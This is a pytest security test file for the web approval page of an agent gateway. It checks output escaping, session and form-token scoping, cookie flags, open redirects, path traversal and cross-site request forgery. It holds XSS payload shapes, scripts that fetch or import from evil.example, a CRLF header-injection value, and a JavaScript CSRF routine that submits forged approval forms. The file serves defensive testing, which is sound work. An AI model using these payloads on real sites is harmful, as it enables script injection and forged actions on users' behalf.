"""Attacks on the page: other sites' forms and frames, rebinding, forged sessions and forms, and stored scripts."""

import json
import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from functools import partial
from html.parser import HTMLParser
from itertools import islice
from typing import Any, get_args
from urllib.parse import quote

import pytest
from playwright.async_api import Page, expect

from holdfast import Agent, Catalog, tool
from holdfast.audit.evidence.evidence import Finding, Unchecked
from holdfast.audit.evidence.verdicts import Verification
from holdfast.client.trees import Node
from holdfast.client.workers import Poller
from holdfast.config.page_links import is_servable, path_of
from holdfast.core.memory.semantic import MemoryItem
from holdfast.doctor.check import Check
from holdfast.errors import HoldfastError
from holdfast.gateway.callers import Caller, Scope
from holdfast.gateway.page import sessions
from holdfast.gateway.page.bulk import Result
from holdfast.gateway.page.changing import AMOUNTS
from holdfast.gateway.page.guards import Origin, own_path
from holdfast.gateway.page.rendering import rendered
from holdfast.gateway.page.sessions import SESSIONS_EACH, Session, Sessions
from holdfast.gateway.page.views.bulk import Group, Item, sort_items
from holdfast.gateway.page.views.calls import call_rows, timed
from holdfast.gateway.page.views.checks import Findings, checks_view
from holdfast.gateway.page.views.diffs import difference
from holdfast.gateway.page.views.fleet import loop_row, schedule_row, service_facts, worker_row
from holdfast.gateway.page.views.insights import prompt_page, state_blocks, tree_rows, verdict_view
from holdfast.gateway.page.views.memories import memory_view
from holdfast.gateway.page.views.plots import costs_view, slim
from holdfast.gateway.page.views.requests import Call, Person, call_view
from holdfast.gateway.page.views.runs import head_view, run_row, spent
from holdfast.gateway.page.views.text import when
from holdfast.gateway.page.views.timeline import entry
from holdfast.testing import call, say, steps
from tests.support.pages import CHROMIUM, POLICY, chromium, page_site
from tests.support.rig import StartRig, events_of, status_of

JSON = dict[str, Any]
NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
ALICE = Caller("alice", tuple(get_args(Scope)))

TAG_NAMES = (
    "a article bdi blockquote body br button caption code dd details div dl dt figcaption figure form h1 h2 h3 head "
    "header html input label li link main meta nav noscript ol option p polyline pre rect script section select span "
    "strong summary svg table tbody td textarea th thead time title tr ul"
)
TAGS = frozenset(TAG_NAMES.split())
ATTRIBUTE_NAMES = (
    "action aria-current aria-describedby aria-hidden aria-label aria-labelledby aria-live autocomplete autofocus "
    "charset checked class content data-after data-call data-known data-must-sign data-needs-key data-now "
    "data-person data-position data-signs data-signs-all data-signs-once data-steers data-stream datetime defer "
    "disabled for height hidden href hx-get hx-select hx-swap hx-swap-oob hx-target hx-trigger id lang max maxlength "
    "method min name open points preserveaspectratio rel required role rows scope selected spellcheck src tabindex "
    "title type value viewbox width x y"
)
ATTRIBUTES = frozenset(ATTRIBUTE_NAMES.split())
LINKS = ("action", "data-stream", "hx-get", "src")


class Checked(HTMLParser):
    """Parses a page, and lists what our templates do not have."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.scripts = 0
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Check an element."""
        self.scripts += tag == "script"
        self.wrong += [tag] if tag not in TAGS else []
        for name, value in attrs:
            known = name in ATTRIBUTES and (name != "title" or tag == "time")
            own = name not in LINKS or str(value).startswith("/page/")
            linked = name != "href" or str(value).startswith(("/page/", "#main"))
            self.wrong += [] if known and own and linked else [f"{tag} {name}={value}"]

    def handle_comment(self, data: str) -> None:
        """Report a comment: templates write none."""
        self.wrong.append(data)


SHAPES = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    '"><img src=x onerror={0}>',
    "'><svg onload={0}>",
    "</textarea><iframe srcdoc='<script>{0}</script>'>",
    "</pre></title><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "javascript:{0}",
    "[x](javascript:{0})",
    "![x](https://evil.example/{0})",
    '" autofocus onfocus="{0}" x="',
    '" hx-get="https://evil.example" hx-trigger="load" x="',
    "<div hx-on:load='{0}' hx-vals='js:{{x:{0}}}'>",
    "{{{{ {0} }}}}{{% raw %}}",
    "<!--<{0}>-->",
    "<base href=https://evil.example/>{0}",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "\u202e<b>\u0000{0}\ud800\x1b[2J",
    "%3Cscript%3E{0}&#x3c;script&gt;",
    "<a href=data:text/html,{0}>x</a>",
    "</dd></dl></main>{0}",
)
SCRIPTS = ("alert(1)", "fetch`//evil.example`", "top[/al/.source+/ert/.source](1)", "1;import('//evil.example')")
CLASSES = ("", " ", "\n", "\t", "\r\n", "\x0c", "/", "\u2028", "a" * 300, "..%2f", "\\", "`", "\u00a0")


def payloads(count: int) -> Iterator[str]:
    """Yield texts that attack a page, always the same ones."""
    chance = random.Random(42)  # no secret
    for _ in range(count):
        parts = [chance.choice(SHAPES).format(chance.choice(SCRIPTS)) for _ in range(chance.randint(1, 2))]
        yield chance.choice(CLASSES).join(["", *parts, ""])


def hostile_request(text: str) -> JSON:
    """Return an open request with the text wherever an LLM, a tool or a person can write one."""
    portable = text.encode("utf-8", "replace").decode()
    return {
        "thread": text,
        "request": text,
        "kind": "approval",
        "tool": text,
        "digest": text,
        "arguments": {text: text, "list": [text, {text: text}], "lines": f"{text}\n{text}"},
        "context": {text: text},
        "preview": {"text": f"+{text}\n-{text}", "base": text, "artifact": text, "size": 9, "problem": ""},
        "consequence": f'pays "{text}" to {portable}',
        "claim": text,
        "why": text,
        "rule": text,
        "edited_by": text,
        "path": [text, text],
        "who": [text],
        "may": {"decide": [text], "deny": None, "signed": True, "gateways": [text]},
        "votes": [{"by": text, "proof": text, "for": text, "decision": text}],
        "quorum": 2,
        "requirements": [{"rule": text, "votes": [text], "quorum": 2, "who": [text]}],
        "answers": ["approve", "deny", "respond"],
        "asked_at": text,
        "expires_at": NOW.isoformat(),
    }


def hostile_state(text: str, request: JSON) -> JSON:
    """Return the state of a run with the text in every part."""
    keys: JSON = {"alice": [text]}
    may: JSON = {"signed": True, "resume_signed": True, "messages_signed": True, "gateways": [], "keys": keys}
    return {
        "thread": text,
        "agent": text,
        "status": text,
        "now": text,
        "next": [{"when": text, "then": text}],
        "task": text,
        "result": [{"type": "text", "text": text}],
        "warning": text,
        "blocked": {"cause": text, "message": text, "after": text},
        "paused": {"by": text, "reason": text},
        "pending": [request],
        "llm": text,
        "trust": text,
        "lineage": {"path": [text]},
        "budget": {"limits": [{"limit": text, "spent": text, "allowed": text}]},
        "events": 3,
        "steering": {"run": text, "seen": 3},
        "may_steer": {**may, "extend": [text]},
    }


def hostile_events(text: str) -> list[JSON]:
    """Return events with the text in every part; also of a kind that this release does not have."""
    kinds: list[JSON] = [
        {"type": "user_message_received", "content": text, "by": text},
        {"type": "llm_replied", "message": {"content": [{"type": "text", "text": text}, {"name": text}]}},
        {"type": "tool_call_requested", "number": 1, "call": {"name": text, "arguments": text}},
        {"type": "verdict_given", "number": text, "verdict": text, "rule": text},
        {"type": "approval_requested", "request": {"id": text, "tool": text, "arguments": text}},
        {"type": "decision_received", "by": text, "decision": text, "request": text, "outcome": text, "reason": text},
        {"type": "tool_call_finished", "number": text, "status": text, "content": text},
        {"type": "run_blocked", "cause": text, "message": text},
        {"type": "run_finished", "outcome": text, "result": text, "cause": text},
        {"type": "agent_loaded", "spec": {"name": text, "llm": text, "tools": [{"name": text}]}},
        {"type": text, text: text},
    ]
    return [{"position": number, "at": text, **event} for number, event in enumerate(kinds)]


def hostile_verification(text: str) -> Verification:
    """Return a verdict with the text in every part."""
    fault, gap = Finding(text, text, 1), Unchecked(text, text)
    return Verification(text, "altered", 3, (text,), checked=(text,), unchecked=(gap,), faults=(fault,), advice=text)


def hostile_calls(text: str) -> list[JSON]:
    """Return the events of calls with the text in every part, at times that can be read."""
    last = {"kind": text, "message": text, "cause": text}
    kinds: list[JSON] = [
        {
            "type": "llm_replied",
            "llm": text,
            "attempt": 3,
            "outage": {"failed": 1, "last": [last]},
            "usage": {text: text},
        },
        {"type": "tool_call_requested", "number": 1, "call": {"name": text}},
        {"type": "verdict_given", "number": 1, "verdict": text},
        {"type": "approval_requested", "request": {"id": text, "number": 1}},
        {"type": "decision_received", "request": text, "outcome": "accepted"},
        {"type": "tool_call_finished", "number": 1, "status": text, "failures": {"count": 2, "last": [last]}},
    ]
    return [{"position": number, "at": NOW.isoformat(), **event} for number, event in enumerate(kinds)]


def sides_with(text: str, shared: JSON, head: object, state: JSON) -> Iterator[Callable[[], str]]:
    """Yield the other sides of a run, and the fleet."""
    side = partial(rendered, **shared, run=head, silent=True)
    events = hostile_calls(text)
    yield partial(side, "calls.html", rows=call_rows(map(timed, events), NOW, is_open=True), first=9, last_page=False)
    yield partial(side, "costs.html", costs=costs_view(map(slim, events), NOW))
    tier = {"tier": text, "text": text, "tokens": 3, "chars": 9, "budget": 2}
    sizes: JSON = {"bytes": 9, "tokens": 3, "messages": 1, "compactions": 0, "llm": text, "compacting": True}
    prompt = sizes | {"tiers": [tier], "waits": [{"kind": text, "text": text}], "provider": {}}
    yield partial(side, "prompt.html", prompt=prompt_page(prompt))
    below = Node(text, text, text, blocked={"cause": text}, error=HoldfastError(text))
    yield partial(side, "tree.html", rows=tree_rows(Node(text, text, text, children=[below])))
    parts = state_blocks({"context": {text: text}, "constraints": [{text: text}]})
    at: JSON = {"position": 1, "last": 2, "entry": entry(hostile_events(text)[0], text, NOW), "at": when(NOW, NOW)}
    at |= {"blocks": parts, "may_fork": True, "lacks": text, "problem": text, "typed": text}
    yield partial(side, "at.html", **at)
    yield partial(side, "at_state.html", **at | {"may_fork": False})
    verdict = verdict_view(hostile_verification(text), NOW, NOW)
    yield partial(side, "verify.html", verdict=verdict, problem=text, checking=True)
    portable = text.encode("utf-8", "replace").decode()
    item = MemoryItem(id=text, scope=text, text=portable, trust="web", kind=text, thread=text, by=text, created_at=NOW)
    memory: JSON = {"items": [memory_view(item, NOW)], "scopes": [text], "remark": text, "query": text, "problem": text}
    yield partial(side, "memory.html", **memory)
    times: JSON = {
        "schedule": text,
        "cron": text,
        "tz": text,
        "task": text,
        "paused": True,
        "note": text,
        "problem": text,
    }
    loop = {"thread": text, "status": text, "task": text, "started_at": text}
    fleet: JSON = {"facts": service_facts(text, text, namespace=text, queue=text, own=text)}
    fleet |= {"workers": [worker_row(Poller(text, text, NOW), NOW, "1")], "may_read_schedules": True}
    fleet |= {"schedules": [schedule_row(times, NOW)], "loops": [loop_row(loop, NOW)], "may_examine": True}
    found = Findings(NOW, [Check(text, status, text, text) for status in ("ok", "missing", "open", "weak")])
    fleet["checks"] = checks_view(found, None, NOW, under_way=True)
    yield partial(rendered, "fleet.html", **shared, **fleet)
    yield partial(rendered, "fleet.html", **shared, **fleet | dict.fromkeys(("workers", "schedules", "loops"), text))


def bulk_pages_with(text: str, shared: JSON, view: Call) -> Iterator[Callable[[], str]]:
    """Yield the pages on which people decide several requests."""
    item = Item(text, text, text)
    found = sort_items([item], {item[:2]: text}, "", "deny", Person("alice", True), NOW, signed=None)
    shared, field = {**shared, "here": path_of("bulk", text)}, json.dumps(item._asdict())
    chosen: JSON = {"calls": [view], "items": [field]}
    yield partial(rendered, "bulk_select.html", **shared, **chosen, picked={field}, total=2, problem=text)
    left: JSON = {"decision": "approve", "left_out": found.left_out}
    yield partial(rendered, "bulk_review.html", **shared, **chosen, **left, needs_key=text)
    results = [Result(view, done, text) for done in (True, False)]
    yield partial(rendered, "bulk_decided.html", **shared, **left, results=results, done=1)


def pages_with(text: str) -> Iterator[Callable[[], str]]:
    """Yield every page and fragment, to be rendered with the text wherever it can come from outside."""
    request = hostile_request(text)
    state = hostile_state(text, request)
    person = Person("alice", True)
    view, head = call_view(request, person, NOW), head_view(state, ALICE.scopes, person)
    session = Session(ALICE, b"x" * 32, 0)
    shared: JSON = {
        "me": Caller(text, ALICE.scopes),
        "form_token": session.form_token,
        "here": path_of("inbox"),
        "now": NOW,
    }
    deciding: JSON = {"call": view, "agent": text, "run": head, "spent": spent(state), "silent": True, "problem": text}
    typed = dict.fromkeys(("say", "reason", "result", "arguments"), text)
    inbox: JSON = {
        "calls": [view],
        "total": 1,
        "others": 1,
        "everybody": False,
        "blocked": [head],
        "unread": [text],
        "missing": 0,
    }
    inbox["groups"] = [Group(view.tool, view.rule, 2, path_of("bulk", text))]
    yield partial(rendered, "inbox.html", **shared, **inbox, read=when(NOW, NOW))
    yield from bulk_pages_with(text, shared, view)
    yield partial(rendered, "request.html", **shared, **deciding, typed=typed)
    rows = difference({text: text}, {text: "x"})
    yield partial(rendered, "review.html", **shared, **deciding, rows=rows, edited=text)
    yield partial(
        rendered, "decided.html", **shared, thread=text, request=text, decision=text, outcome=text, explanation=text
    )
    yield partial(rendered, "gone.html", **shared, thread=text, request=text, problem=text)
    entries = [entry(event, text, NOW) for event in hostile_events(text)]
    run: JSON = {"run": head, "raw_status": text, "entries": entries, "after": 3}
    more: JSON = {
        "streams": True,
        "problem": text,
        "typed": text,
        "silent": True,
        "first": 0,
        "last_page": True,
        "may_say": True,
    }
    more["verdict"] = verdict_view(hostile_verification(text), NOW, NOW)
    yield partial(rendered, "run.html", **shared, **run, **more)
    yield partial(rendered, "run.html", **shared, **run, **{**more, "last_page": False})
    yield partial(rendered, "run_live.html", **shared, **run, seen="")
    typed_changes = dict.fromkeys(("kind", "text", "reason", *AMOUNTS), text)
    changes = {"may_refine": True, "may_extend": True, "amounts": AMOUNTS, "once": "0"}
    yield partial(rendered, "change.html", **shared, run=head, **changes, typed=typed_changes, problem=text)
    listed = run_row({"thread": text, "status": text, "agent": text, "task": text, "started_at": text}, NOW)
    yield from sides_with(text, shared, head, state)
    filters: JSON = {
        "query": quote(text.encode("utf-8", "replace")),
        "statuses": [text],
        "status": text,
        "agent": text,
        "next": text,
        "may_start": True,
    }
    yield partial(rendered, "runs.html", **shared, rows=[listed], **filters)
    yield partial(rendered, "runs_list.html", **shared, rows=[listed], **filters)
    yield partial(rendered, "key.html", **shared, name=text, known=[text])
    yield partial(rendered, "new_run.html", **shared, task=text, agent=text, problem=text)
    yield partial(rendered, "sign_in.html", next=own_path(text), link=text, problem=text, provider=text)
    yield partial(rendered, "problem.html", title=text, detail=text)


@pytest.mark.parametrize("part", [0, *(pytest.param(each, marks=pytest.mark.extended) for each in range(1, 10))])
def test_no_text_becomes_markup(part: int) -> None:
    """Of 100 texts, or 1,000, in every place of the pages, none makes an element, an attribute, a link or a comment.

    Each text is in every third page, and each page has a third of the texts.
    """
    for number, text in list(enumerate(payloads(1_000)))[part::10]:
        for render in islice(pages_with(text), number // 10 % 3, None, 3):
            page = render()
            checked = Checked(page)
            assert checked.wrong == [], text
            assert checked.scripts <= 4, text


def test_the_check_of_pages_can_fail() -> None:
    """The same check finds a script, a handler and a foreign link."""
    for wrong in ("<script src=//evil.example></script>", "<p onclick=x>", "<a href='//evil.example'>", "<b>"):
        assert Checked(wrong).wrong


def test_arguments_are_shown_whole_and_visible() -> None:
    """Everything that a call has is on its page: the last of 10,000 lines, and characters that would hide others."""
    request = hostile_request("x") | {
        "arguments": {"text": "\n".join(f"line {n}" for n in range(10_000)), "b\u202e": "a\u200bb"}
    }
    view = call_view(request, Person("alice", True), NOW)
    session = Session(ALICE, b"x" * 32, 0)
    shared: JSON = {
        "me": ALICE,
        "form_token": session.form_token,
        "here": "",
        "now": NOW,
        "problem": "",
        "silent": False,
    }
    typed = dict.fromkeys(("say", "reason", "result", "arguments"), "")
    run = head_view(hostile_state("x", request), ALICE.scopes)
    page = rendered("request.html", **shared, call=view, agent="", run=run, spent=(), typed=typed)
    assert "line 9999" in page
    assert r'<span class="out">\u200b</span>' in page
    assert r"b\u202e" in page
    assert "\u202e" not in page
    assert "\u200b" not in page


@pytest.mark.parametrize(
    "elsewhere",
    [
        "https://evil.example/",
        "//evil.example",
        "/\\evil.example",
        "/page//evil.example",
        "/page/../codec",
        "/page/%2e%2e/threads",
        "/page/\\..\\x",
        "/page/x\r\nSet-Cookie: a=b",
        "/pagex",
        "javascript:alert(1)",
        "/page/" + "x" * 3_000,
        "",
    ],
)
def test_signing_in_leads_nowhere_else(elsewhere: str) -> None:
    """After signing in, a person is led to a path of the page alone."""
    assert own_path(elsewhere) == "/page/inbox"
    assert own_path("/page/requests/pay%2F1/2?all=1") == "/page/requests/pay%2F1/2?all=1"


def test_a_session_is_known_to_its_process_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """An id is good in the process that made it, until it ends; a link is good once; neither list grows without end."""
    monkeypatch.setattr(sessions, "SESSIONS", 2 * SESSIONS_EACH)
    clock = [0.0]
    here, there = Sessions(now=lambda: clock[0]), Sessions()
    id = here.begin(ALICE)
    found = here.find(id)
    assert found is not None
    assert (found.caller, there.find(id), here.find(""), here.find(id + "x")) == (ALICE, None, None, None)
    link = here.make_link(ALICE, seconds=10)
    assert (here.use_link(link), here.use_link(link), here.use_link("x")) == (ALICE, None, None)
    late = here.make_link(ALICE, seconds=10)
    clock[0] = 13 * 3_600
    assert (here.find(id), here.use_link(late)) == (None, None)
    many = [here.begin(ALICE) for _ in range(SESSIONS_EACH + 1)]
    assert (here.find(many[0]), here.find(many[-1]) is not None) == (None, True)
    for number in range(2 * SESSIONS_EACH):
        here.begin(Caller(f"caller-{number}", ("read",)))
    assert here.find(many[-1]) is None


def test_a_token_is_of_one_form_and_one_session() -> None:
    """The token of another form, or of another session of the same person, is refused."""
    one, other = (Session(ALICE, secret, 0) for secret in (b"a" * 32, b"b" * 32))
    token = one.form_token("/page/runs/x/cancel")
    assert one.is_token(token, "/page/runs/x/cancel")
    assert not one.is_token(token, "/page/runs/y/cancel")
    assert not other.is_token(token, "/page/runs/x/cancel")
    assert not one.is_token("\u00e9", "/page/runs/x/cancel")


def test_the_cookie_stays_with_its_host() -> None:
    """Over https the cookie is `__Host-` and `Secure`; over http there is a page on this machine alone."""
    secure, local = Origin("HTTPS://Holdfast.example:443/"), Origin("http://127.0.0.1:8470")
    assert (secure.host, secure.text) == ("holdfast.example", "https://holdfast.example")
    assert secure.set_cookie("x") == "__Host-holdfast-443=x; Path=/; HttpOnly; SameSite=Strict; Secure"
    assert local.set_cookie("x") == "holdfast-8470=x; Path=/; HttpOnly; SameSite=Strict"
    assert [is_servable(url) for url in ("https://a.example", "http://localhost:1", "http://10.0.0.1:1")] == [
        True,
        True,
        False,
    ]


async def test_forms_from_elsewhere_change_nothing(rig: StartRig) -> None:
    """With the session's cookie, a form of another site, port, host, session or page is refused, and so is one that
    lacks its token; the API refuses the cookie; the same form from the page itself counts.
    """
    async with page_site(rig) as site:
        run = await site.rig.start("Pay", thread="pay/1")
        (request,) = (await status_of(run, "waiting_approval"))["pending"]
        assert (await site.sign_in()).status_code == 303
        page, cancel = path_of("requests", run.id, "1"), path_of("runs", run.id, "cancel")
        decision = {"decision": "approve", "digest": request["digest"]}
        decision["form"] = await site.form_token(page, page)
        wrong: list[tuple[str, dict[str, str], dict[str, str]]] = [
            ("another site", {"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"}, decision),
            ("another port", {"Origin": "http://127.0.0.1:1", "Sec-Fetch-Site": "same-site"}, decision),
            ("no origin", {"Origin": ""}, decision),
            ("a sandboxed frame", {"Origin": "null"}, decision),
            ("a rebound name", {"Host": "evil.example", "Origin": "http://evil.example"}, decision),
            ("a rebound name, our origin", {"Host": "evil.example"}, decision),
            ("an older browser", {"Origin": "https://evil.example", "Sec-Fetch-Site": ""}, decision),
            ("no token", {}, {**decision, "form": ""}),
            ("another form's token", {}, {**decision, "form": await site.form_token(path_of("runs", run.id), cancel)}),
        ]
        for name, headers, fields in wrong:
            assert (await site.post(page, fields, headers)).status_code == 403, name
        as_json = await site.http.post(page, json=decision, headers={"Origin": site.url})
        assert as_json.status_code == 415
        for method, path in (("GET", "/pending"), ("POST", f"/threads/{run.id.replace('/', '%2F')}/decisions")):
            assert (await site.http.request(method, path, json=decision)).status_code == 401
        fetched = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
        framed = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"}
        for headers in (fetched, framed):
            assert (await site.http.get(page, headers=headers)).status_code == 403
        assert not [event for event in await events_of(run) if event.type == "decision_received"]

        stale = await site.post(page, {**decision, "digest": "0" * 64})
        assert (stale.status_code, "has changed since" in stale.text) == (409, True)
        assert (await site.post(page, decision)).status_code == 200
        assert (await status_of(run, "completed"))["status"] == "completed"


async def test_a_page_does_no_more_than_its_token(rig: StartRig) -> None:
    """A session has the scopes and threads of its token; an id that somebody else chose or ended is none; every
    response forbids frames and foreign scripts, and no file beside the static ones is served.
    """
    async with page_site(rig) as site:
        run = await site.rig.start("Pay", thread="pay-2")
        (request,) = (await status_of(run, "waiting_approval"))["pending"]
        page = path_of("requests", run.id, "1")
        cookie = Origin(site.url).cookie
        site.http.cookies.set(cookie, "chosen-by-an-attacker", domain="127.0.0.1")
        assert (await site.http.get("/page/inbox")).status_code == 303
        assert (await site.sign_in("of-nobody")).status_code == 401
        site.http.cookies.clear()
        await site.sign_in("of-reader")
        first = site.http.cookies[cookie]
        assert first != "chosen-by-an-attacker"
        shown = (await site.http.get(page)).text
        assert "does not have the scope decide" in shown
        reader = site.sessions.find(first)
        assert reader is not None
        forged = {"decision": "approve", "digest": request["digest"], "form": reader.form_token(page)}
        assert (await site.post(page, forged)).status_code == 403
        start = {"task": "Pay", "form": reader.form_token("/page/runs")}
        assert (await site.post("/page/runs", start)).status_code == 403

        await site.sign_in("of-billing")
        assert site.http.cookies[cookie] != first
        assert site.sessions.find(first) is None
        missing = (await site.http.get(path_of("runs", "nothing"))).text.replace("nothing", "it")
        assert (await site.http.get(path_of("runs", run.id))).text.replace(run.id, "it") == missing
        assert run.id not in (await site.http.get("/page/inbox?all=1")).text

        await site.sign_in("of-bob")
        assert "alice can do this, and you are signed in as bob" in (await site.http.get(page)).text
        bob = site.http.cookies[cookie]
        out = await site.form_token("/page/inbox", "/page/sign-out")
        await site.post("/page/sign-out", {"form": out})
        site.http.cookies.set(cookie, bob, domain="127.0.0.1")
        assert (await site.http.get("/page/inbox")).status_code == 303
        for path in (
            "/page/inbox",
            "/page/sign-in",
            "/page/static/page.css",
            "/page/nothing",
            "/page/static/..%2fapp.py",
        ):
            headers = (await site.http.get(path)).headers
            assert "frame-ancestors 'none'" in headers["content-security-policy"], path
            assert "unsafe" not in headers["content-security-policy"], path
            assert headers["x-frame-options"] == "DENY", path
        for file in ("..%2fapp.py", "page.css%00", "htmx-LICENSE.txt", "%2e%2e%2f%2e%2e%2fapp.py"):
            assert (await site.http.get(f"/page/static/{file}")).status_code == 404, file


ATTACK = """
async ({url, paths}) => {
  const read = [];
  for (const path of paths) {
    for (const mode of ['cors', 'no-cors'])
      try {
        const text = await (await fetch(url + path, {mode, credentials: 'include'})).text();
        if (text) read.push(path);
      } catch {}
    const frame = document.createElement('iframe'), form = document.createElement('form');
    frame.name = 'f' + Math.random();
    Object.assign(form, {method: 'POST', action: url + path, target: frame.name});
    for (const [name, value] of [['decision', 'approve'], ['token', 'of-alice'], ['task', 'Pay'], ['reason', 'x']]) {
      const field = document.createElement('input');
      Object.assign(field, {type: 'hidden', name, value});
      form.append(field);
    }
    document.body.append(frame, form);
    form.submit();
    await new Promise(done => { frame.onload = done; setTimeout(done, 1500); });
  }
  return read;
}
"""


@tool(effect="unsafe", consequence="publishes {text}")
def publish(text: str) -> str:
    """Publish a text."""
    return f"<script>window.hit = 1</script>{text}"


DRAFT = (
    "</pre><form action='/page/sign-out'><button>Approve all</button></form><img src=x onerror='window.hit = 1'>",
    "\u202e\x00\ud800<svg onload='window.hit = 1'>\r",
    "\n<a href='javascript:window.hit = 1'>x</a>" + "long " * 3_000,
    "long " * 3_000,
)
"""Chunks that somebody has forged."""


async def draft_is_text_alone(page: Page) -> None:
    """The words that are being written are text, with invisible characters written out, and cut where they are long."""
    draft = page.locator("#draft")
    await expect(draft.get_by_text("… cut: the first 20,000 characters are shown")).to_be_visible()
    shown = await draft.locator(".words pre").evaluate("each => each.textContent")
    assert shown.startswith(DRAFT[0] + "\\u202e\\x00\\ud800<svg onload='window.hit = 1'>\n<a href=")
    assert len(shown) < 20_100
    names = await draft.evaluate("each => [...each.querySelectorAll('*')].map(one => one.localName)")
    assert set(names) == {"p", "span", "details", "summary", "pre", "dl", "dt", "dd", "bdi"}
    buttons = await page.get_by_role("button").all_inner_texts()
    assert "Approve all" not in buttons


@pytest.mark.extended
@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed (Debian: apt install chromium)")
async def test_in_a_browser_nothing_runs_and_no_other_page_gets_in(rig: StartRig) -> None:
    """In Chromium, hostile arguments, messages, results and words that are being written run no script on any page; a
    page of another site or port starts, decides and reads nothing, although the person is signed in.
    """
    text = "</pre><script>window.hit = 1</script><img src=x onerror='window.hit = 1'>\u202e"
    agent = Agent(name="clerk", instructions="Work.", policy=POLICY.model_copy(update={"rules": ()}), tools=[publish])
    script = steps([call("publish", text=text), say(text)])
    async with page_site(rig, script=script, catalog=Catalog(agents=[agent])) as site, chromium() as browser:
        run = await site.rig.start(text, thread="hostile")
        await status_of(run, "waiting_approval")
        context = await browser.new_context()
        page = await context.new_page()
        page.set_default_timeout(120_000)
        await page.goto(f"{site.url}/page/")
        await page.get_by_label("Your token").fill("of-alice")
        await page.get_by_role("button", name="Sign in").click()
        paths = ["/page/inbox", path_of("requests", run.id, "1"), path_of("runs", run.id), "/page/runs"]
        paths.append(path_of("runs", run.id, "change"))
        await site.write(run, *DRAFT)
        await site.write(run, "<script>window.hit = 1</script>", kind="reasoning", first=1 + len(DRAFT))
        for origin in ("http://evil.example:9", "http://127.0.0.1:9"):
            other = await context.new_page()
            await other.route(f"{origin}/attack", lambda route: route.fulfill(content_type="text/html", body="<p>x"))
            await other.goto(f"{origin}/attack")
            acts = [path_of("runs", run.id, act) for act in ("cancel", "refinements", "extensions")]
            acts.append(path_of("runs", run.id, "stream") + "?after=1")
            targets = [*paths, *acts, "/page/sign-in", "/page/sign-out"]
            targets = targets if "evil" in origin else [paths[1], acts[0]]
            assert await other.evaluate(ATTACK, {"url": site.url, "paths": targets}) == [], origin
        assert not [event for event in await events_of(run) if event.type == "decision_received"]
        for path in paths:
            await page.goto(site.url + path)
            await expect(page.get_by_text("Signed in as alice")).to_be_visible()
            if path == paths[2]:
                await draft_is_text_alone(page)
            elif path == paths[1]:
                assert "Approve all" not in await page.content()
            assert await page.evaluate("window.hit") is None, path
        await page.goto(site.url + paths[1])
        await page.get_by_role("button", name="Approve", exact=True).click()
        await expect(page.get_by_role("status")).to_contain_text("Accepted")
        await status_of(run, "completed")
        await page.goto(site.url + paths[2])
        assert await page.evaluate("window.hit") is None
